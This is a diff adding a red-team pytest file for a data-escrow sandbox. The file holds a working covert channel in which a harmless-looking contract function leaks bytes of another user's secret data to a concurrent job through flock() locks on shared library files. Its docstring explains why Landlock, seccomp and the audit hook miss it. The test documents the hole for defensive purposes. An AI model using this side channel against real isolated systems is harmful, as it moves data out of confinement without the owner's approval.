@@ -1,0 +1,115 @@
+"""Round 5 of the red team: full-trust confinement between jobs, the server's reads and the
+lifecycle. Attacks played from the documentation only, through the `Escrow` facade (the harness
+`World`), `dsc` and `dsc serve`. A test that shows a real hole is `xfail(strict=True)`."""
+
+import threading
+import time
+
+import pytest
+
+from rt_support import SECRET_CSV, SECRET_TEXT, Scenario
+
+# -- 1. two jobs at once: a file lock on a file both children may read --------------------------
+
+LOCK_FUNCS = '''
+import fcntl
+import os
+import time
+
+NBITS = 64
+
+
+def _files():
+    d = os.path.dirname(os.__file__)
+    names = sorted(n for n in os.listdir(d) if n.endswith(".py"))
+    return [os.path.join(d, n) for n in names[: NBITS + 1]]
+
+
+def leak(t) -> int:
+    """Returns the row count; meanwhile shows the first 8 bytes of a cell through file locks."""
+    bits = int.from_bytes(str(t.iloc[0]["name"]).encode()[:8].ljust(8, b"\\0"), "big")
+    held = []
+    files = _files()
+    for i in range(NBITS):
+        if bits >> (NBITS - 1 - i) & 1:
+            f = open(files[i + 1], "rb")
+            fcntl.flock(f.fileno(), fcntl.LOCK_EX)
+            held.append(f)
+    sync = open(files[0], "rb")
+    fcntl.flock(sync.fileno(), fcntl.LOCK_EX)
+    time.sleep(4)
+    return len(t)
+
+
+def _locked(path):
+    f = open(path, "rb")
+    try:
+        fcntl.flock(f.fileno(), fcntl.LOCK_SH | fcntl.LOCK_NB)
+        return False
+    except OSError:
+        return True
+    finally:
+        f.close()
+
+
+def listen(d) -> str:
+    """mallory's own contract on mallory's own data: waits for the signal, decodes it."""
+    files = _files()
+    deadline = time.time() + 20
+    while time.time() < deadline:
+        if _locked(files[0]):
+            bits = 0
+            for i in range(NBITS):
+                bits = bits << 1 | _locked(files[i + 1])
+            return bits.to_bytes(8, "big").rstrip(b"\\0").decode("latin1")
+        time.sleep(0.05)
+    return ""
+'''
+
+LOCK_DSC = '''use "f.py"
+agent alice
+agent mallory
+data alice.t csv "t.csv"
+data mallory.d csv "d.csv"
+
+contract count_rows { by mallory compute leak(t = alice.t) to alice }
+contract mine       { by mallory compute listen(d = mallory.d) to mallory }
+'''
+
+
+def _outbox_text(sc, who: str) -> str:
+    d = sc.world.config.outbox_path / who
+    return "".join(p.read_bytes().decode("latin1") for p in d.rglob("*") if p.is_file()) if d.is_dir() else ""
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: concurrent full-trust jobs talk through flock() on files "
+                                       "both children may read (the Python library)")
+def test_a_job_cannot_signal_data_to_a_concurrent_job_through_file_locks(tmp_path):
+    """mallory proposes `count_rows`, a harmless-looking contract over alice's table released to
+    alice only; alice approves and runs it. Its function also takes `flock()` locks on files of the
+    Python library (which every full-trust child may open read-only), one file per bit of a cell.
+    At the same moment mallory's own contract `mine` (over mallory's own data: only mallory
+    approves it) runs in another child of the same escrow and tests those locks with `LOCK_NB`,
+    decoding the bits into its result, released to mallory. Neither Landlock (locks are not file
+    accesses it governs), seccomp (flock is allowed) nor the audit hook (reading the library is
+    allowed) stops it: 64 bits per few seconds, noiselessly, from any job to any concurrent job
+    (another contract, another proposer), so alice's data reaches mallory without alice ever
+    approving a release to her. The promise: nothing but the approved result leaves a job."""
+    sc = Scenario(tmp_path, {"f.py": LOCK_FUNCS, "s.dsc": LOCK_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"})
+    try:
+        w = sc.world
+        victim = w.propose("count_rows", "mallory")
+        w.approve(victim.id, "alice")
+        spy = w.propose("mine", "mallory")
+        w.approve(spy.id, "mallory")  # mallory's own data: nobody else decides
+        reports = {}
+        listener = threading.Thread(target=lambda: reports.setdefault("spy", w.execute(spy.id, "mallory")))
+        listener.start()
+        time.sleep(0.5)
+        reports["victim"] = w.execute(victim.id, "alice")
+        listener.join(60)
+        assert reports["victim"].status.value == "executed"
+        leaked = _outbox_text(sc, "mallory")
+        assert SECRET_TEXT[:8] not in leaked, leaked
+    finally:
+        sc.close()
